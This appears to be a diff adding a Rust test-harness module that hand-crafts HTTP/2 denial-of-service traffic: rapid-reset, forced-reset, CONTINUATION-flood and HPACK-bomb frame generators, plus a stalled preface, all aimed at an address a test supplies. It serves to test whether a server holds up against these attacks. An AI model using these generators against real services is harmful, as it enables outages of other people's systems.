@@ -1,0 +1,238 @@
+//! What an attacker sends: HTTP/2 frames by hand, many of them, each allowed or nearly so, that ask
+//! for work and for nothing else. Bounded in count, and to an address that a test gives.
+
+use std::net::SocketAddr;
+use std::time::Duration;
+
+use anyhow::{Context, Result};
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
+use tokio::net::TcpStream;
+use tokio::net::tcp::OwnedWriteHalf;
+use tokio::task::JoinHandle;
+use tokio::time::timeout;
+
+use crate::frames::{Frame, GOAWAY, HEADERS, PREFACE, SETTINGS, WINDOW_UPDATE};
+
+/// DATA.
+pub const DATA: u8 = 0;
+/// PRIORITY.
+pub const PRIORITY: u8 = 2;
+/// `RST_STREAM`.
+pub const RST_STREAM: u8 = 3;
+/// PING.
+pub const PING: u8 = 6;
+/// CONTINUATION.
+pub const CONTINUATION: u8 = 9;
+/// On HEADERS and CONTINUATION: the headers end here.
+pub const END_HEADERS: u8 = 4;
+/// Frames are written so many bytes at a time.
+const PIECE: usize = 32 * 1024;
+/// A write that takes longer has met a connection that reads no more.
+const STUCK: Duration = Duration::from_secs(5);
+
+/// A frame's bytes.
+#[must_use]
+pub fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
+    let length = u32::try_from(payload.len()).expect("a frame below 16 MiB");
+    let [_, high, middle, low] = length.to_be_bytes();
+    let mut bytes = vec![high, middle, low, kind, flags];
+    bytes.extend(stream.to_be_bytes());
+    bytes.extend(payload);
+    bytes
+}
+
+/// The headers of a call of this path, as HPACK has them without tables of its own (RFC 7541 §6).
+#[must_use]
+pub fn call(path: &str) -> Vec<u8> {
+    // `:method: POST`, `:scheme: http`, and `:path` by its name.
+    let mut block = vec![0x83, 0x86, 0x04];
+    text(&mut block, path);
+    for (name, value) in [
+        (":authority", "front.example"),
+        ("content-type", "application/grpc"),
+        ("te", "trailers"),
+    ] {
+        block.push(0);
+        text(&mut block, name);
+        text(&mut block, value);
+    }
+    block
+}
+
+/// A string that is not compressed (RFC 7541 §5.2), also a long one.
+pub fn text(block: &mut Vec<u8>, text: &str) {
+    let length = text.len();
+    if length < 0x7F {
+        block.push(u8::try_from(length).expect("it is short"));
+    } else {
+        block.push(0x7F);
+        let mut rest = length - 0x7F;
+        while rest >= 0x80 {
+            block.push(u8::try_from(rest % 0x80).expect("it is below 128") | 0x80);
+            rest /= 0x80;
+        }
+        block.push(u8::try_from(rest).expect("it is below 128"));
+    }
+    block.extend(text.as_bytes());
+}
+
+/// An attacker's connection.
+#[derive(Debug)]
+pub struct Attacker {
+    to: OwnedWriteHalf,
+    reading: JoinHandle<Ended>,
+}
+
+/// How the other side ended a connection.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
+pub struct Ended {
+    /// The error code of its GOAWAY, if it sent one.
+    pub goaway: Option<u32>,
+    /// Streams that it reset.
+    pub resets: u32,
+    /// Streams that it answered.
+    pub answers: u32,
+}
+
+impl Attacker {
+    /// Opens a connection as HTTP/2 wants it, with these settings.
+    ///
+    /// # Errors
+    /// Nobody listens.
+    pub async fn connect(address: SocketAddr, settings: &[(u16, u32)]) -> Result<Self> {
+        let stream = TcpStream::connect(address)
+            .await
+            .context("nobody listens")?;
+        stream.set_nodelay(true)?;
+        let (mut from, mut to) = stream.into_split();
+        let mut payload = Vec::new();
+        for (id, value) in settings {
+            payload.extend(id.to_be_bytes());
+            payload.extend(value.to_be_bytes());
+        }
+        to.write_all(PREFACE).await?;
+        to.write_all(&frame(SETTINGS, 0, 0, &payload)).await?;
+        let reading = tokio::spawn(async move {
+            let mut ended = Ended::default();
+            while let Ok(frame) = Frame::read(&mut from).await {
+                match frame.kind {
+                    GOAWAY if frame.payload.len() >= 8 => {
+                        let code = frame.payload[4..8].try_into().expect("four bytes");
+                        ended.goaway = Some(u32::from_be_bytes(code));
+                    }
+                    RST_STREAM => ended.resets += 1,
+                    HEADERS => ended.answers += 1,
+                    _ => {}
+                }
+            }
+            ended
+        });
+        Ok(Self { to, reading })
+    }
+
+    /// Sends these frames, as fast as they are taken. Returns how many were.
+    pub async fn send(&mut self, frames: impl Iterator<Item = Vec<u8>>) -> usize {
+        let (mut taken, mut held, mut piece) = (0, 0, Vec::with_capacity(2 * PIECE));
+        for frame in frames {
+            piece.extend(frame);
+            held += 1;
+            if piece.len() >= PIECE {
+                if !self.write(&piece).await {
+                    return taken;
+                }
+                taken += held;
+                held = 0;
+                piece.clear();
+            }
+        }
+        if self.write(&piece).await {
+            taken + held
+        } else {
+            taken
+        }
+    }
+
+    async fn write(&mut self, bytes: &[u8]) -> bool {
+        matches!(timeout(STUCK, self.to.write_all(bytes)).await, Ok(Ok(())))
+    }
+
+    /// Waits until the other side has ended the connection, and says how; `None`: it has not.
+    pub async fn ended(self, within: Duration) -> Option<Ended> {
+        timeout(within, self.reading).await.ok()?.ok()
+    }
+}
+
+/// Calls of this path that are given up at once.
+pub fn rapid_reset(path: &str, count: u32) -> impl Iterator<Item = Vec<u8>> {
+    let block = call(path);
+    (0..count).map(move |number| {
+        let stream = 2 * number + 1;
+        let mut bytes = frame(HEADERS, END_HEADERS, stream, &block);
+        bytes.extend(frame(RST_STREAM, 0, stream, &[0, 0, 0, 8]));
+        bytes
+    })
+}
+
+/// Calls of this path with an error for which the other side must reset them: a window that grows
+/// beyond what there is (RFC 9113 §6.9.1).
+pub fn made_you_reset(path: &str, count: u32) -> impl Iterator<Item = Vec<u8>> {
+    let block = call(path);
+    (0..count).map(move |number| {
+        let stream = 2 * number + 1;
+        let mut bytes = frame(HEADERS, END_HEADERS, stream, &block);
+        bytes.extend(frame(WINDOW_UPDATE, 0, stream, &[0x7F, 0xFF, 0xFF, 0xFF]));
+        bytes
+    })
+}
+
+/// One call of this path whose headers never end.
+pub fn continuation(path: &str, count: usize) -> impl Iterator<Item = Vec<u8>> {
+    let begun = frame(HEADERS, 0, 1, &call(path));
+    let mut field = vec![0];
+    text(&mut field, "x");
+    text(&mut field, "y");
+    let more = frame(CONTINUATION, 0, 1, &field);
+    std::iter::once(begun).chain(std::iter::repeat_n(more, count))
+}
+
+/// The same frame again and again.
+pub fn same(frame: Vec<u8>, count: usize) -> impl Iterator<Item = Vec<u8>> {
+    std::iter::repeat_n(frame, count)
+}
+
+/// Calls of this path whose headers are one entry of the table, named as often as a frame takes it: 16
+/// KiB that unfold to 60 MiB.
+pub fn hpack_bomb(path: &str, count: u32) -> impl Iterator<Item = Vec<u8>> {
+    let path = path.to_owned();
+    (0..count).map(move |number| {
+        let mut block = call(&path);
+        if number == 0 {
+            // Literal, with a name of its own, kept in the table.
+            block.push(0x40);
+            text(&mut block, "x");
+            text(&mut block, &"b".repeat(4_000));
+        }
+        block.resize(16 * 1024, 0xBE);
+        frame(HEADERS, END_HEADERS, 2 * number + 1, &block)
+    })
+}
+
+/// A connection that begins its preface and goes on with it no further.
+///
+/// # Errors
+/// Nobody listens.
+pub async fn slow_preface(address: SocketAddr) -> Result<TcpStream> {
+    let mut stream = TcpStream::connect(address).await?;
+    // Who is turned away may find out here.
+    let _ = stream.write_all(&PREFACE[..3]).await;
+    Ok(stream)
+}
+
+/// Was it ended by the other side?
+pub async fn is_closed(stream: &mut TcpStream, within: Duration) -> bool {
+    let read = async {
+        let mut bytes = [0; 64];
+        while let Ok(1..) = stream.read(&mut bytes).await {}
+    };
+    timeout(within, read).await.is_ok()
+}
